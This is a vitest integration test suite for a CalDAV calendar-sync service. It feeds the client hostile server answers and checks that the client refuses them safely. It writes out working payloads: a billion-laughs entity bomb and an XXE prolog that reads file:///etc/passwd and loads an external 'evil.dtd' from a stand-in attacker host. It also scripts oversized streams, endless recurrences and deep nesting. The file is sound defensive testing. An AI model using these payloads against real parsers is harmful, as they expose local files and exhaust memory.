import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { sql, type SQL } from "drizzle-orm";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { calDAVErrorMessage, type CalDAVErrorCode } from "../../src/caldav/errors.js";
import { MAX_DISPLAY_NAME_CHARS } from "../../src/caldav/discovery.js";
import { startTestApi, type TestApi } from "../helpers/api.js";
import { capturedLogger } from "../helpers/captured-log.js";
import { calendar, importedEntries, RUN_FIELDS, syncNow, type RunView } from "../sync/helpers.js";
import { dumpAllTables } from "./db-dump.js";
import { multistatusXml, responseXml, sendXml, startHostileServer, streamBody, type HostileServer } from "./hostile-server.js";

/**
 * Issue 6, item 2: hostile CalDAV answers, end to end. Each test points an integration's calendarUrl at
 * a scripted server on 127.0.0.1 (./hostile-server.ts) that answers the engine's conversation
 * (PROPFIND Depth 0, calendar-query with data, etag listing, multiget, sync-collection) and turns
 * one answer hostile. Through GraphQL (testConnection, syncNow) each case must end in a clear outcome
 * (a connection test's errorCode, or a run ERROR/PARTIAL with a message), write nothing from the
 * hostile part, and leave the process healthy (the API keeps answering, a clean calendar still syncs).
 *
 * The unit-level proofs this builds on: test/caldav/client.test.ts (size cap, redirects),
 * src/caldav/xml/*.test.ts (DOCTYPE refused), src/caldav/ical/expand.test.ts (bounded expansion).
 * Only loopback listeners exist; nothing in here asserts on time.
 */

const CONFIGURE = "mutation($input: ConfigureCalDAVIntegrationInput!) { configureCalDAVIntegration(input: $input) { id } }";
const TEST = "mutation($id: UUID!) { testConnection(integrationId: $id) { success errorCode message calendars { url displayName } } }";
const RUNS = `query($id: UUID!) { syncRuns(integrationId: $id, first: 50) { edges { node { ${RUN_FIELDS} } } } }`;
const PASSWORD = "hostile-test-password-5e1c";
const MiB = 1024 * 1024;
/** The client's default cap (src/caldav/http/client.ts: maxResponseBytes). */
const CAP = 50 * MiB;
/** Streamed answers offer more than the cap; a client that reads to the end would take all of it. */
const STREAM_TOTAL = 120 * MiB;
/** Default per-series bound of the expansion (src/caldav/ical/expand.ts: DEFAULT_MAX_ITERATIONS). */
const SERIES_CAP = 10_000;
/** src/time-entries/service.ts NOTES_MAX_LENGTH */
const NOTES_MAX = 10_000;

let api: TestApi;
let logs: ReturnType<typeof capturedLogger>;
let health: { token: string };
const servers: HostileServer[] = [];

beforeAll(async () => {
  logs = capturedLogger();
  api = await startTestApi({ log: logs.log, caldav: { timeoutMs: 10_000 } });
  health = await api.createUser("hostile-health@example.com");
});
afterAll(async () => {
  await api?.close();
});
afterEach(async () => {
  // The process stayed healthy: the API still answers a query after every hostile case.
  const me = await api.graphql(health.token, "{ me { id email } }");
  expect(me.status).toBe(200);
  expect(me.errors).toBeUndefined();
  expect(me.data?.me.email).toBe("hostile-health@example.com");
  await Promise.all(servers.splice(0).map((s) => s.stop()));
});

async function hostile(): Promise<HostileServer> {
  const s = await startHostileServer();
  servers.push(s);
  return s;
}

interface Account {
  id: string;
  token: string;
  integrationId: string;
}

let accounts = 0;
async function account(s: HostileServer, input: Record<string, unknown> = {}): Promise<Account> {
  const user = await api.createUser(`hostile-${++accounts}@example.com`);
  const res = await api.graphql(user.token, CONFIGURE, {
    input: { calendarUrl: s.calendarUrl, username: "hostile-user", password: PASSWORD, lookbackDays: 365, ...input },
  });
  if (res.errors) throw new Error(JSON.stringify(res.errors));
  return { ...user, integrationId: res.data?.configureCalDAVIntegration.id };
}

async function testConnection(a: Account) {
  const res = await api.graphql(a.token, TEST, { id: a.integrationId });
  // A hostile answer is a result, never a GraphQL error (in particular never INTERNAL_SERVER_ERROR).
  expect(res.errors).toBeUndefined();
  expect(res.status).toBe(200);
  return res.data?.testConnection as { success: boolean; errorCode: string | null; message: string; calendars: { url: string; displayName: string | null }[] };
}

const rowsOf = (raw: unknown): Record<string, unknown>[] => (Array.isArray(raw) ? raw : (raw as { rows: Record<string, unknown>[] }).rows) as Record<string, unknown>[];
const query = async (q: SQL) => rowsOf(await api.database.db.execute(q));
const count = async (q: SQL) => Number((await query(q))[0]?.n ?? -1);

/** What a sync of this account has written: entries, mirror, links, stored sync state. */
async function written(a: Account) {
  return {
    entries: await count(sql`select count(*)::int as n from time_entries where user_id = ${a.id}`),
    objects: await count(sql`select count(*)::int as n from calendar_objects o join integration_calendars c on c.id = o.calendar_id where c.integration_id = ${a.integrationId}`),
    links: await count(sql`select count(*)::int as n from event_links where calendar_id in (select id from integration_calendars where integration_id = ${a.integrationId})`),
    state: (await query(sql`select ctag, sync_token from integration_calendars where integration_id = ${a.integrationId}`)).map((r) => [r.ctag ?? null, r.sync_token ?? null]),
  };
}

async function expectNothingWritten(a: Account): Promise<void> {
  expect(await written(a)).toEqual({ entries: 0, objects: 0, links: 0, state: [[null, null]] });
}

async function errorCodeOf(run: RunView): Promise<string | null> {
  const [row] = await query(sql`select error_code from sync_runs where id = ${run.id}`);
  return (row?.error_code as string | null | undefined) ?? null;
}

/** A run that failed at the CalDAV server: ERROR, the code's user message, the code recorded, nothing written. */
async function expectRunRefused(a: Account, run: RunView, ...codes: CalDAVErrorCode[]): Promise<void> {
  expect(run.status).toBe("ERROR");
  expect(codes).toContain(await errorCodeOf(run));
  expect(codes.some((code) => run.message?.startsWith(calDAVErrorMessage(code)))).toBe(true);
  expect(run.message).not.toMatch(/internal error/i);
  expect(run.entriesCreated).toBe(0);
  await expectNothingWritten(a);
}

/** UTC iCalendar time `days` days before now at `hour`:00. */
function ago(days: number, hour = 9, minute = 0): string {
  const d = new Date(Date.now() - days * 86_400_000);
  d.setUTCHours(hour, minute, 0, 0);
  return d.toISOString().replace(/[-:]/g, "").replace(/\.\d{3}/, "");
}

const crlf = (s: string) => s.replace(/\r?\n/g, "\r\n");
const ics = (...events: string[][]) => crlf(calendar(...events));
const plainEvent = (uid: string, days: number, summary: string) => ics([`UID:${uid}`, `DTSTART:${ago(days)}`, `DTEND:${ago(days, 10)}`, `SUMMARY:${summary}`]);

/** Two ordinary events every hostile calendar also holds ("the rest imports"). */
function seedGood(s: HostileServer): void {
  s.objects.set("good-1.ics", plainEvent("good-1", 3, "Good one"));
  s.objects.set("good-2.ics", plainEvent("good-2", 2, "Good two"));
}

function collectGarbage(): () => void {
  const exposed = (globalThis as { gc?: () => void }).gc;
  if (exposed) return exposed;
  try {
    // vitest's forks do not run with --expose-gc; turning the flag on at run time gives a new context a gc().
    setFlagsFromString("--expose-gc");
    return runInNewContext("gc") as () => void;
  } catch {
    return () => {};
  }
}
const gc = collectGarbage();
function heapUsed(): number {
  gc();
  gc();
  return process.memoryUsage().heapUsed;
}
/** Generous: the point is "no blow-up" (billions of entities, a 50 MiB body kept, millions of occurrences), not a budget. */
const HEAP_SLACK = 200 * MiB;

// ---------------------------------------------------------------------------------------------

const LAUGHS =
  `<!DOCTYPE lolz [<!ENTITY lol "lol">` +
  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`).join("") +
  `]>\n`;

describe("1. billion laughs (nested entity definitions)", () => {
  it("in the PROPFIND answer: testConnection INVALID_RESPONSE, sync ERROR, nothing expanded or written", async () => {
    const s = await hostile();
    seedGood(s);
    s.on("PROPFIND_0", (_req, res) => sendXml(res, multistatusXml([responseXml(s.calendarPath, `<D:resourcetype><D:collection/><C:calendar/></D:resourcetype><D:displayname>&lol9;</D:displayname><CS:getctag>&lol9;</CS:getctag>`)], { prolog: LAUGHS })));
    const a = await account(s);
    const before = heapUsed();

    const test = await testConnection(a);
    // The one selected calendar is listed with what failed; the entity text is nowhere.
    expect(test).toMatchObject({ success: false, errorCode: "INVALID_RESPONSE", calendars: [{ url: s.calendarUrl, displayName: null }] });
    expect(test.message).toContain(calDAVErrorMessage("INVALID_RESPONSE"));
    expect(test.message).not.toContain("lollollol");

    const run = await syncNow(api, a.token, a.integrationId);
    await expectRunRefused(a, run, "INVALID_RESPONSE");
    expect(run.message).toMatch(/DOCTYPE/);
    expect(s.seen.map((r) => r.kind)).toEqual(["PROPFIND_0", "PROPFIND_0"]); // refused at the first answer each time
    expect(heapUsed() - before).toBeLessThan(HEAP_SLACK);
  });

  it("in the REPORT answers (calendar-query with data, etag listing, multiget): sync ERROR, nothing written", async () => {
    const s = await hostile();
    seedGood(s);
    const laughing = (_req: unknown, res: Parameters<typeof sendXml>[0]) =>
      sendXml(res, multistatusXml([responseXml(`${s.calendarPath}good-1.ics`, `<D:getetag>"1"</D:getetag><C:calendar-data>&lol9;</C:calendar-data>`)], { prolog: LAUGHS }));
    s.on("REPORT_ALL_DATA", laughing);
    s.on("REPORT_ETAGS", laughing);
    s.on("REPORT_MULTIGET", laughing);
    const a = await account(s);
    const before = heapUsed();

    expect(await testConnection(a)).toMatchObject({ success: true, errorCode: null }); // the PROPFINDs are fine

    const run = await syncNow(api, a.token, a.integrationId);
    await expectRunRefused(a, run, "INVALID_RESPONSE");
    expect(s.seen.filter((r) => r.method === "REPORT").map((r) => r.kind)).toEqual(["REPORT_ALL_DATA"]);
    expect(heapUsed() - before).toBeLessThan(HEAP_SLACK);
  });
});

describe("2. XXE (external entities)", () => {
  it("a SYSTEM entity on file:///etc/passwd in PROPFIND and REPORT answers is refused; 'root:' appears nowhere", async () => {
    const s = await hostile();
    // A second loopback listener stands for an attacker's DTD host (parameter-entity exfiltration).
    const dtdHost = await hostile();
    seedGood(s);
    const XXE = `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "${dtdHost.origin}/evil.dtd"> %remote;]>\n`;
    s.on("PROPFIND_0", (_req, res) =>
      sendXml(res, multistatusXml([responseXml(s.calendarPath, `<D:resourcetype><D:collection/><C:calendar/></D:resourcetype><D:displayname>&x;</D:displayname><CS:getctag>&x;</CS:getctag><D:sync-token>&x;</D:sync-token>`)], { prolog: XXE })),
    );
    const reportXxe = (_req: unknown, res: Parameters<typeof sendXml>[0]) =>
      sendXml(res, multistatusXml([responseXml(`${s.calendarPath}x.ics`, `<D:getetag>&x;</D:getetag><C:calendar-data>&x;</C:calendar-data>`)], { prolog: XXE }));
    const a = await account(s);
    const b = await account(s);
    const outputs: unknown[] = [];

    // a: the PROPFIND is hostile.
    const test = await testConnection(a);
    outputs.push(test);
    expect(test).toMatchObject({ success: false, errorCode: "INVALID_RESPONSE" });
    const runA = await syncNow(api, a.token, a.integrationId);
    outputs.push(runA);
    await expectRunRefused(a, runA, "INVALID_RESPONSE");

    // b: the PROPFIND is clean, every REPORT is hostile.
    s.on("PROPFIND_0", undefined);
    for (const kind of ["REPORT_ALL_DATA", "REPORT_ETAGS", "REPORT_MULTIGET", "REPORT_SYNC"] as const) s.on(kind, reportXxe);
    const runB = await syncNow(api, b.token, b.integrationId);
    outputs.push(runB);
    await expectRunRefused(b, runB, "INVALID_RESPONSE");

    for (const x of [a, b]) outputs.push(await api.graphql(x.token, RUNS, { id: x.integrationId }), await api.graphql(x.token, `{ timeEntries(first: 50) { edges { node { notes } } } }`));
    const everything = [JSON.stringify(outputs), JSON.stringify(await dumpAllTables(api.database.db)), logs.text()].join("\n");
    expect(everything).not.toContain("root:");
    expect(everything).not.toContain("/bin/");
    expect(dtdHost.seen).toEqual([]); // no external DTD was ever fetched
  });
});

describe("3. answers over the size cap", () => {
  it("a PROPFIND answer streamed without Content-Length: RESPONSE_TOO_LARGE, the connection is dropped early", async () => {
    const s = await hostile();
    seedGood(s);
    s.on("PROPFIND_0", (_req, res) => streamBody(s, res, STREAM_TOTAL));
    const a = await account(s);
    const before = heapUsed();

    const test = await testConnection(a);
    expect(test).toMatchObject({ success: false, errorCode: "RESPONSE_TOO_LARGE" });
    expect(test.message).toContain(calDAVErrorMessage("RESPONSE_TOO_LARGE"));
    const run = await syncNow(api, a.token, a.integrationId);
    await expectRunRefused(a, run, "RESPONSE_TOO_LARGE");

    const outcomes = await Promise.all(s.streams);
    expect(outcomes).toHaveLength(2);
    for (const o of outcomes) {
      expect(o.completed).toBe(false);
      // the client read up to the cap, then closed: what the server got out is bounded by the cap plus socket buffers
      expect(o.written).toBeLessThan(STREAM_TOTAL);
      expect(o.written).toBeGreaterThan(CAP);
    }
    expect(heapUsed() - before).toBeLessThan(HEAP_SLACK);
  });

  it("every REPORT answer too large: the engine falls back once to the etag listing, then the run is ERROR RESPONSE_TOO_LARGE", async () => {
    const s = await hostile();
    seedGood(s);
    for (const kind of ["REPORT_ALL_DATA", "REPORT_ETAGS", "REPORT_MULTIGET"] as const) s.on(kind, (_req, res) => streamBody(s, res, STREAM_TOTAL));
    s.on("PROPFIND_1", (_req, res) => streamBody(s, res, STREAM_TOTAL));
    const a = await account(s);

    const run = await syncNow(api, a.token, a.integrationId);
    await expectRunRefused(a, run, "RESPONSE_TOO_LARGE");
    expect(s.seen.map((r) => r.kind)).toEqual(["PROPFIND_0", "REPORT_ALL_DATA", "REPORT_ETAGS"]);
    const outcomes = await Promise.all(s.streams);
    expect(outcomes.map((o) => o.completed)).toEqual([false, false]);
    for (const o of outcomes) expect(o.written).toBeLessThan(STREAM_TOTAL);
  });

  it("only the one-REPORT download is too large: the etag listing and multiget import the calendar", async () => {
    const s = await hostile();
    seedGood(s);
    s.on("REPORT_ALL_DATA", (_req, res) => streamBody(s, res, STREAM_TOTAL));
    const a = await account(s);

    const run = await syncNow(api, a.token, a.integrationId);
    expect(run.status).toBe("SUCCESS");
    expect(run.entriesCreated).toBe(2);
    // the last PROPFIND: the first sync asks for the principal's addresses (src/caldav/principal.ts)
    expect(s.seen.map((r) => r.kind)).toEqual(["PROPFIND_0", "REPORT_ALL_DATA", "REPORT_ETAGS", "REPORT_MULTIGET", "PROPFIND_0"]);
    expect((await Promise.all(s.streams)).map((o) => o.completed)).toEqual([false]);
  });

  it("a lying small Content-Length in front of a huge body: only the declared bytes are read, the rest is dropped", async () => {
    const s = await hostile();
    seedGood(s);
    s.on("PROPFIND_0", (_req, res) => streamBody(s, res, STREAM_TOTAL, { contentLength: 200 }));
    const a = await account(s);

    const test = await testConnection(a);
    expect(test.success).toBe(false);
    expect(["INVALID_RESPONSE", "RESPONSE_TOO_LARGE"]).toContain(test.errorCode);
    const run = await syncNow(api, a.token, a.integrationId);
    await expectRunRefused(a, run, "INVALID_RESPONSE", "RESPONSE_TOO_LARGE");

    const outcomes = await Promise.all(s.streams);
    expect(outcomes).toHaveLength(2);
    for (const o of outcomes) {
      expect(o.completed).toBe(false);
      expect(o.written).toBeLessThan(STREAM_TOTAL);
    }
  });

  it("an honest Content-Length over the cap is refused before the body is read", async () => {
    const s = await hostile();
    seedGood(s);
    s.on("PROPFIND_0", (_req, res) => streamBody(s, res, 60 * MiB, { contentLength: 60 * MiB + 79 }));
    const a = await account(s);

    expect(await testConnection(a)).toMatchObject({ success: false, errorCode: "RESPONSE_TOO_LARGE" });
    const run = await syncNow(api, a.token, a.integrationId);
    await expectRunRefused(a, run, "RESPONSE_TOO_LARGE");
    expect(run.message).toMatch(/Content-Length/);
    for (const o of await Promise.all(s.streams)) {
      expect(o.completed).toBe(false);
      expect(o.written).toBeLessThan(CAP); // nothing near the cap was pulled through
    }
  });
});

describe("4. an endless FREQ=SECONDLY series", () => {
  it("is expanded to the per-series bound, reported as a warning, imported at most to the bound; the heap stays flat", async () => {
    const s = await hostile();
    seedGood(s);
    // Since 2020 and endless: the iteration skips ahead to a day before the window and stops at the bound
    // there, so none of its occurrences reach the window; only the warning says so.
    s.objects.set("secondly.ics", ics(["UID:secondly", "DTSTART:20200101T000000Z", "DTEND:20200101T000001Z", "RRULE:FREQ=SECONDLY", "SUMMARY:Every second, forever"]));
    // Started 30 minutes ago: about 1,800 occurrences lie in the window before the bound stops the series.
    const recent = new Date(Math.floor(Date.now() / 1000) * 1000 - 30 * 60_000);
    const stamp = (d: Date) => d.toISOString().replace(/[-:]/g, "").replace(/\.\d{3}/, "");
    s.objects.set("secondly-recent.ics", ics(["UID:secondly-recent", `DTSTART:${stamp(recent)}`, `DTEND:${stamp(new Date(recent.getTime() + 1000))}`, "RRULE:FREQ=SECONDLY", "SUMMARY:Every second since half an hour"]));
    const a = await account(s);
    const before = heapUsed();

    const run = await syncNow(api, a.token, a.integrationId);
    expect(["SUCCESS", "PARTIAL"]).toContain(run.status);
    expect(run.warnings).toEqual(
      expect.arrayContaining([`Series secondly stopped after ${SERIES_CAP} occurrences`, `Series secondly-recent stopped after ${SERIES_CAP} occurrences`]),
    );
    const fromSeries = async () => count(sql`select count(*)::int as n from event_links where calendar_id in (select id from integration_calendars where integration_id = ${a.integrationId}) and uid like 'secondly%'`);
    expect(await fromSeries()).toBeGreaterThan(0);
    expect(await fromSeries()).toBeLessThanOrEqual(SERIES_CAP);
    expect(await count(sql`select count(*)::int as n from event_links where calendar_id in (select id from integration_calendars where integration_id = ${a.integrationId}) and uid = 'secondly'`)).toBe(0);
    const w = await written(a);
    expect(w).toMatchObject({ entries: run.entriesCreated, links: run.entriesCreated, objects: 4 });
    expect(await count(sql`select count(*)::int as n from event_links where calendar_id in (select id from integration_calendars where integration_id = ${a.integrationId}) and uid in ('good-1', 'good-2')`)).toBe(2);

    // Again (FULL, so nothing is answered from the in-process memo): nothing changes but the few
    // seconds of the recent series that entered the window meanwhile; the total stays within the bound.
    const again = await syncNow(api, a.token, a.integrationId, "FULL");
    expect(again.status).toBe(run.status);
    expect(again).toMatchObject({ entriesUpdated: 0, entriesDeleted: 0 });
    expect(again.entriesUnchanged).toBe(run.entriesCreated);
    expect(await fromSeries()).toBeLessThanOrEqual(SERIES_CAP);

    expect(heapUsed() - before).toBeLessThan(HEAP_SLACK);
  });
});

describe("5. huge and deeply nested properties", () => {
  it("a 5 MB SUMMARY is imported with its notes capped at 10,000 characters", async () => {
    const s = await hostile();
    seedGood(s);
    const title = "Huge title ".concat(Array.from({ length: 5 * MiB / 16 }, (_, i) => `w${(i * 7919) % 1_000_003} `).join("")).slice(0, 5 * MiB);
    s.objects.set("huge.ics", ics(["UID:huge", `DTSTART:${ago(1)}`, `DTEND:${ago(1, 10)}`, `SUMMARY:${title}`]));
    const a = await account(s);

    const run = await syncNow(api, a.token, a.integrationId);
    expect(run.status).toBe("SUCCESS");
    expect(run.entriesCreated).toBe(3);
    const huge = (await importedEntries(api, a.token)).find((e) => e.externalEvent?.uid === "huge");
    expect(huge?.notes.length).toBeLessThanOrEqual(NOTES_MAX);
    expect(huge?.notes.startsWith("Huge title w0 w7919 ")).toBe(true);
  });

  it("a 5 MB displayname does not crash the connection test, and is capped when kept", async () => {
    const s = await hostile();
    s.displayName = "N".repeat(5 * MiB);
    const a = await account(s);
    const test = await testConnection(a);
    // handled (stored and returned, capped) or refused as an invalid answer; never an internal error
    if (test.success) {
      expect(test.calendars).toHaveLength(1);
      expect(test.calendars[0]?.displayName).toBe("N".repeat(MAX_DISPLAY_NAME_CHARS));
    } else expect(test.errorCode).toBe("INVALID_RESPONSE");
  });

  it("100,000 nested elements in the PROPFIND answer: INVALID_RESPONSE, no stack overflow", async () => {
    const s = await hostile();
    seedGood(s);
    const deep = Buffer.from("<D:x>".repeat(100_000) + "deep" + "</D:x>".repeat(100_000));
    s.on("PROPFIND_0", (_req, res) =>
      sendXml(res, multistatusXml([responseXml(s.calendarPath, `<D:resourcetype><D:collection/><C:calendar/></D:resourcetype><D:displayname>`, deep, `</D:displayname>`)])),
    );
    const a = await account(s);

    const test = await testConnection(a);
    expect(test).toMatchObject({ success: false, errorCode: "INVALID_RESPONSE" });
    const run = await syncNow(api, a.token, a.integrationId);
    await expectRunRefused(a, run, "INVALID_RESPONSE");
    expect(run.message).toMatch(/nested deeper than 64/);
  });

  it("100,000 nested elements inside calendar-data of the REPORT answer: INVALID_RESPONSE", async () => {
    const s = await hostile();
    seedGood(s);
    const deep = Buffer.from("<C:x>".repeat(100_000) + "</C:x>".repeat(100_000));
    s.on("REPORT_ALL_DATA", (_req, res) => sendXml(res, multistatusXml([responseXml(`${s.calendarPath}deep.ics`, `<D:getetag>"d"</D:getetag><C:calendar-data>`, deep, `</C:calendar-data>`)])));
    const a = await account(s);

    const run = await syncNow(api, a.token, a.integrationId);
    await expectRunRefused(a, run, "INVALID_RESPONSE");
  });

  // 20,000 levels, not 100,000: repairing the nesting costs time quadratic in the depth (100,000 levels,
  // a 3 MB object, block the event loop for about 10 s; see the report of this suite). No timing is asserted.
  it("20,000 nested iCalendar components: the object is imported or skipped as unreadable; the others import", async () => {
    const s = await hostile();
    seedGood(s);
    const depth = 20_000;
    const nested = [...Array.from({ length: depth }, (_, i) => `BEGIN:X-N${i}`), ...Array.from({ length: depth }, (_, i) => `END:X-N${depth - 1 - i}`)];
    s.objects.set("nested.ics", ics(["UID:nested", `DTSTART:${ago(1)}`, `DTEND:${ago(1, 10)}`, "SUMMARY:Nested", ...nested]));
    const a = await account(s);

    const run = await syncNow(api, a.token, a.integrationId);
    expect(["SUCCESS", "PARTIAL"]).toContain(run.status);
    expect(run.message).not.toMatch(/internal error/i);
    const uids = (await importedEntries(api, a.token)).map((e) => e.externalEvent?.uid);
    expect(uids).toEqual(expect.arrayContaining(["good-1", "good-2"]));
    if (run.status === "PARTIAL") expect(run.errors.map((e) => e.href)).toEqual([`${s.origin}/cal/nested.ics`]);
  });
});

describe("6. invalid UTF-8 and unstorable characters", () => {
  const BAD = [Buffer.from([0xc3, 0x28]), Buffer.from([0xff, 0xfe]), Buffer.from([0x80]), Buffer.from([0xc0, 0xaf]), Buffer.from([0xf0, 0x9f, 0x98])];

  it("in calendar-data and in an href: imported with U+FFFD", async () => {
    const s = await hostile();
    seedGood(s);
    const head = Buffer.from(crlf(`BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//hostile//EN\nBEGIN:VEVENT\nUID:bad-utf8\nDTSTAMP:20250101T000000Z\nDTSTART:${ago(1)}\nDTEND:${ago(1, 10)}\nSUMMARY:Broken `));
    s.objects.set("bad-utf8.ics", Buffer.concat([head, ...BAD.flatMap((b) => [b, Buffer.from(" ")]), Buffer.from(crlf("end\nEND:VEVENT\nEND:VCALENDAR\n"))]));
    const hrefWithBadByte = Buffer.concat([Buffer.from(`${s.calendarPath}bad-href-`), Buffer.from([0xff]), Buffer.from(".ics")]);
    s.extraResponses.REPORT_ALL_DATA = [
      Buffer.concat([
        Buffer.from("<D:response><D:href>"),
        hrefWithBadByte,
        Buffer.from(`</D:href><D:propstat><D:prop><D:getetag>"h"</D:getetag><C:calendar-data>${plainEvent("bad-href", 1, "Bad href")}</C:calendar-data></D:prop><D:status>HTTP/1.1 200 OK</D:status></D:propstat></D:response>`),
      ]),
    ];
    const a = await account(s);

    const run = await syncNow(api, a.token, a.integrationId);
    expect(run.status).toBe("SUCCESS");
    expect(run.entriesCreated).toBe(4);
    const entries = await importedEntries(api, a.token);
    const broken = entries.find((e) => e.externalEvent?.uid === "bad-utf8");
    expect(broken?.notes).toMatch(/^Broken \uFFFD.*end$/u);
    expect(broken?.notes).not.toMatch(/[\uD800-\uDFFF]/u);
    expect(entries.find((e) => e.externalEvent?.uid === "bad-href")?.notes).toBe("Bad href");

    // and the mirror holds them stably: the next sync changes nothing
    const again = await syncNow(api, a.token, a.integrationId, "FULL");
    expect(again).toMatchObject({ status: "SUCCESS", entriesCreated: 0, entriesUpdated: 0, entriesDeleted: 0, entriesUnchanged: 4 });
  });

  it("in XML text (displayname): the connection test succeeds with U+FFFD in the name", async () => {
    const s = await hostile();
    s.displayName = Buffer.concat([Buffer.from("Cal "), ...BAD, Buffer.from(" endar")]);
    const a = await account(s);
    const test = await testConnection(a);
    expect(test.success).toBe(true);
    expect(test.calendars[0]?.displayName).toMatch(/^Cal \uFFFD.* endar$/u);
  });

  // A raw U+0000 is valid UTF-8 and sax lets it through, but PostgreSQL text cannot hold it
  // (docs/security.md already lists the same defect for API input).
  it("a raw NUL inside calendar-data: the object is skipped as unreadable (or the NUL dropped), never an internal error", async () => {
    const s = await hostile();
    seedGood(s);
    s.objects.set("nul.ics", plainEvent("nul", 1, "Nul\u0000byte"));
    const a = await account(s);

    const run = await syncNow(api, a.token, a.integrationId);
    expect(run.message).not.toMatch(/internal error/i);
    expect(["SUCCESS", "PARTIAL"]).toContain(run.status);
    const uids = (await importedEntries(api, a.token)).map((e) => e.externalEvent?.uid);
    expect(uids).toEqual(expect.arrayContaining(["good-1", "good-2"]));
  });

  it("a raw NUL inside the displayname: the connection test answers, never an internal error", async () => {
    const s = await hostile();
    s.displayName = "Nul\u0000name";
    const a = await account(s);
    const test = await testConnection(a);
    if (!test.success) expect(test.errorCode).toBe("INVALID_RESPONSE");
  });
});

describe("7. hrefs that point to another host", () => {
  /** Another origin (another loopback port) holding an event of its own: fetching it would import it. */
  async function elsewhere() {
    const other = await hostile();
    other.objects.set("evil.ics", plainEvent("evil", 1, "Fetched from another host"));
    return other;
  }
  const foreignResponses = (other: HostileServer, withData: boolean) => [
    responseXml(`${other.origin}/cal/evil.ics`, `<D:getetag>"e1"</D:getetag>`, ...(withData ? [`<C:calendar-data>${plainEvent("evil-inline", 1, "Inline from another host")}</C:calendar-data>`] : [])),
    responseXml(`//127.0.0.1:${other.port}/cal/evil-2.ics`, `<D:getetag>"e2"</D:getetag>`),
    responseXml(`http://localhost:${other.port}/cal/evil-3.ics`, `<D:getetag>"e3"</D:getetag>`),
  ];

  async function expectOnlyGoodImported(a: Account, other: HostileServer): Promise<void> {
    const uids = (await importedEntries(api, a.token)).map((e) => e.externalEvent?.uid).sort();
    expect(uids).toEqual(["good-1", "good-2"]);
    expect(other.seen).toEqual([]); // never fetched, with or without credentials
    const links = await query(sql`select href from event_links where calendar_id in (select id from integration_calendars where integration_id = ${a.integrationId}) order by href`);
    expect(links.map((r) => String(r.href)).every((href) => href.startsWith(`http://127.0.0.1:`) && !href.includes(String(other.port)))).toBe(true);
  }

  it("in the calendar-query answer (with and without data): ignored, the rest imports, the other host hears nothing", async () => {
    const s = await hostile();
    const other = await elsewhere();
    seedGood(s);
    s.extraResponses.REPORT_ALL_DATA = foreignResponses(other, true);
    const a = await account(s);

    const run = await syncNow(api, a.token, a.integrationId);
    expect(run.status).toBe("SUCCESS");
    expect(run.entriesCreated).toBe(2);
    await expectOnlyGoodImported(a, other);
    // nothing was asked for afterwards either (no multiget of the data-less foreign hrefs), only
    // the principal's addresses, which the first sync reads
    expect(s.seen.map((r) => r.kind)).toEqual(["PROPFIND_0", "REPORT_ALL_DATA", "PROPFIND_0"]);
  });

  it("in the etag listing and the multiget answer: only same-origin hrefs are requested; the other host hears nothing", async () => {
    const s = await hostile();
    const other = await elsewhere();
    seedGood(s);
    s.on("REPORT_ALL_DATA", (_req, res) => void res.writeHead(403).end()); // refused: listing + multiget
    s.extraResponses.REPORT_ETAGS = foreignResponses(other, false);
    s.extraResponses.REPORT_MULTIGET = foreignResponses(other, true);
    const a = await account(s);

    const run = await syncNow(api, a.token, a.integrationId);
    expect(run.status).toBe("SUCCESS");
    expect(run.entriesCreated).toBe(2);
    await expectOnlyGoodImported(a, other);
    const multiget = s.seen.find((r) => r.kind === "REPORT_MULTIGET");
    expect(multiget?.body).toContain("/cal/good-1.ics");
    expect(multiget?.body).not.toContain(String(other.port));
  });

  it("in a sync-collection delta (incremental sync): ignored; the other host hears nothing", async () => {
    const s = await hostile();
    const other = await elsewhere();
    seedGood(s);
    const a = await account(s);
    expect((await syncNow(api, a.token, a.integrationId)).status).toBe("SUCCESS");

    s.ctag = "ctag-2";
    s.syncToken = "urn:hostile:sync:2";
    s.objects.set("good-1.ics", plainEvent("good-1", 3, "Good one, changed"));
    s.extraResponses.REPORT_SYNC = foreignResponses(other, false);
    s.extraResponses.REPORT_MULTIGET = foreignResponses(other, true);
    const run = await syncNow(api, a.token, a.integrationId);
    expect(run.status).toBe("SUCCESS");
    expect(run.entriesUpdated).toBe(1);
    expect(s.seen.some((r) => r.kind === "REPORT_SYNC")).toBe(true);
    await expectOnlyGoodImported(a, other);
    expect((await importedEntries(api, a.token)).map((e) => e.notes)).toContain("Good one, changed");
  });
});

describe("afterwards", () => {
  it("the same process still syncs a well-behaved calendar", async () => {
    const s = await hostile();
    seedGood(s);
    const a = await account(s);
    expect(await testConnection(a)).toMatchObject({ success: true, errorCode: null });
    const run = await syncNow(api, a.token, a.integrationId);
    expect(run).toMatchObject({ status: "SUCCESS", entriesCreated: 2 });
    // no hostile case left a password in the logs
    expect(logs.text()).not.toContain(PASSWORD);
  });
});
